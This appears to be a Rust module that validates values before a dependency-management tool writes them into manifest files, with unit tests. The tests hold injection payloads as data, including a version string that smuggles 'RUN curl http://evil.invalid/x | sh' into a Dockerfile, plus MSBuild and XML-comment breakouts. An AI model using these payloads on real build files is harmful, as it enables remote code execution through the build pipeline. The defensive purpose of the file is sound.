//! The writers' last line of defence: a value that would change the structure of the
//! file it is written into is refused, even when it got past the validators at the
//! doors (`crate::validate`).
//!
//! The rule per place:
//!
//! - **Everywhere**: control characters (C0, DEL, C1) and the Unicode line and
//!   paragraph separators are refused. No version, commit, repository URL or asset
//!   name has one, and several places cannot hold one faithfully: XML attribute values
//!   turn line breaks into spaces when read back, YAML single-quoted scalars fold them,
//!   TOML literal strings cannot contain them, and line-oriented files (a Dockerfile
//!   behind a regex reference) would gain a line.
//! - **XML** attribute values and element text (Version.Details.xml, NuGet.config):
//!   `&`, `<`, `>` and both quotes are escaped as entities, which read back exactly.
//! - **MSBuild property values** (Versions.props, Version.Details.props): escaped as XML,
//!   and `$`, `@`, `%` and `;` are refused, because MSBuild expands `$(...)`, `@(...)`,
//!   `%(...)` (property functions run code) and splits items on `;`.
//! - **MSBuild property names** made from a dependency name (`Contoso.Runtime` ->
//!   `ContosoRuntimePackageVersion`): after `.` and `-` are dropped, only ASCII letters,
//!   digits and `_`, not starting with a digit; anything else would not be an element.
//! - **XML comments** (the section labels of Version.Details.props): `--` is refused, as
//!   it ends or breaks a comment.
//! - **JSON, TOML basic and YAML double-quoted strings** are escaped; YAML single-quoted
//!   and TOML literal strings double their quotes or fall back to basic strings.
//! - **Raw text** (regex references of the native layout): the new file must read back
//!   the value exactly, at as many spots as before, through the same reference; see
//!   `native::update`.

use crate::validate::quote;

use super::ManifestError;

/// Where a value is written, which decides what it may contain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// A string the format escapes (XML attribute or text, JSON, TOML, YAML) or raw
    /// text: only the rule for every place applies.
    Text,
    /// An MSBuild property value.
    MsBuildValue,
    /// An MSBuild property name made from a dependency name.
    MsBuildName,
    /// Text inside an XML comment.
    XmlComment,
}

/// Why a value is refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    /// A control or line-separator character.
    #[error("contains the control character {0:?}")]
    Control(char),
    /// A character MSBuild expands or splits on.
    #[error("contains {0:?}, which MSBuild expands or splits on")]
    MsBuild(char),
    /// Not usable as an MSBuild property (XML element) name.
    #[error(
        "does not make an MSBuild property name (letters, digits and _ once . and - are dropped, not starting with a digit)"
    )]
    PropertyName,
    /// Would end or break an XML comment.
    #[error("contains \"--\", which would end an XML comment")]
    CommentDashes,
    /// The file would not read the value back through the reference that wrote it.
    #[error(
        "{reference} would read back {read} instead, at {found} spot(s) where there were {expected}"
    )]
    ReadBack {
        /// The reference, as the native manifest describes it.
        reference: String,
        /// What it reads back, quoted.
        read: String,
        /// Spots found after the edit.
        found: usize,
        /// Spots found before the edit.
        expected: usize,
    },
}

/// Checks `value` for `place`.
pub fn check(place: Place, value: &str) -> Result<(), Refusal> {
    if let Some(c) = value
        .chars()
        .find(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}'))
    {
        return Err(Refusal::Control(c));
    }
    match place {
        Place::Text => Ok(()),
        Place::MsBuildValue => match value.chars().find(|c| matches!(c, '$' | '@' | '%' | ';')) {
            Some(c) => Err(Refusal::MsBuild(c)),
            None => Ok(()),
        },
        Place::MsBuildName => {
            let base: String = value.chars().filter(|c| *c != '.' && *c != '-').collect();
            let valid = base
                .chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && base.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
            if valid {
                Ok(())
            } else {
                Err(Refusal::PropertyName)
            }
        }
        Place::XmlComment if value.contains("--") => Err(Refusal::CommentDashes),
        Place::XmlComment => Ok(()),
    }
}

/// A refused write: the file, the dependency, which of its values, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{file}: refusing {field} {shown} of dependency {dependency}: {reason}")]
pub struct Refused {
    /// The file.
    pub file: String,
    /// The dependency, quoted.
    pub dependency: String,
    /// Which of its values (`version`, `commit`, `repository`, `name`, `location`).
    pub field: String,
    /// The value, quoted and cut short.
    pub shown: String,
    /// Why it is refused.
    pub reason: Refusal,
}

/// What is about to be written, for the error when it is refused.
#[derive(Debug, Clone, Copy)]
pub struct Write<'a> {
    /// The file written.
    pub file: &'a str,
    /// The dependency the value belongs to.
    pub dependency: &'a str,
    /// Which of its values (`version`, `commit`, `repository`, `name`, `location`).
    pub field: &'a str,
}

impl Write<'_> {
    /// Checks `value` for `place`; a refusal names the file, the dependency and why.
    pub fn check(&self, place: Place, value: &str) -> Result<(), ManifestError> {
        check(place, value).map_err(|reason| self.refused(value, reason))
    }

    /// The error refusing `value` for `reason`.
    pub fn refused(&self, value: &str, reason: Refusal) -> ManifestError {
        ManifestError::Refused(Box::new(Refused {
            file: self.file.to_string(),
            dependency: quote(self.dependency),
            field: self.field.to_string(),
            shown: quote(value),
            reason,
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rules_per_place() {
        use Place::*;
        let ok = |place, value: &str| assert_eq!(check(place, value), Ok(()), "{value:?}");
        let no = |place, value: &str, want: Refusal| {
            assert_eq!(check(place, value), Err(want), "{value:?}");
        };
        for place in [Text, MsBuildValue, MsBuildName, XmlComment] {
            ok(place, "Contoso.Runtime");
            no(place, "9.0.2\nRUN curl x | sh", Refusal::Control('\n'));
            no(place, "a\rb", Refusal::Control('\r'));
            no(place, "a\tb", Refusal::Control('\t'));
            no(place, "a\u{7f}", Refusal::Control('\u{7f}'));
            no(place, "a\u{85}", Refusal::Control('\u{85}'));
            no(place, "a\u{2028}b", Refusal::Control('\u{2028}'));
        }
        ok(Text, "9.0.2-preview.1+abc");
        ok(Text, "\"/><Dependency Name=\"x");
        ok(Text, "https://github.com/contoso/runtime");
        ok(MsBuildValue, "9.0.2-preview.1+abc");
        no(MsBuildValue, "$(Foo)", Refusal::MsBuild('$'));
        no(MsBuildValue, "1;2", Refusal::MsBuild(';'));
        no(MsBuildValue, "@(Items)", Refusal::MsBuild('@'));
        no(MsBuildValue, "%(Meta)", Refusal::MsBuild('%'));
        ok(MsBuildName, "Microsoft.NET.Sdk-il");
        ok(MsBuildName, "_x1");
        no(MsBuildName, "Foo><Evil", Refusal::PropertyName);
        no(MsBuildName, "1Foo", Refusal::PropertyName);
        no(MsBuildName, ".-", Refusal::PropertyName);
        no(MsBuildName, "a/b", Refusal::PropertyName);
        ok(XmlComment, "contoso/runtime");
        ok(XmlComment, "dotnet-arcade");
        no(XmlComment, "x --><Evil/><!--", Refusal::CommentDashes);
    }

    #[test]
    fn refusals_name_file_dependency_and_value() {
        let write = Write {
            file: "eng/Versions.props",
            dependency: "Contoso.Runtime",
            field: "version",
        };
        let e = write
            .check(
                Place::MsBuildValue,
                "9.0.2\nRUN curl http://evil.invalid/x | sh\n#",
            )
            .expect_err("refused");
        assert_eq!(
            e.to_string(),
            "eng/Versions.props: refusing version \"9.0.2\\nRUN curl http://evil.invalid/x | s…\" \
             of dependency \"Contoso.Runtime\": contains the control character '\\n'"
        );
    }
}

#[cfg(test)]
mod writers;
